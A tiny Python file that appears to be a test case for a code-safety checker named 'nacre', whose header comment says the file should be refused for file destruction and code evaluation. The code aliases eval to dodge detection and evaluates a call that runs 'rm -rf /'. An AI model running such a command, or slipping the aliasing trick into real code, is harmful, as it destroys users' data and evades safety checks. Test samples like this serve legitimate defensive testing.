# nacre: refused file.destroy code.eval
e = eval
e("__import__('os').system('rm -rf /')")
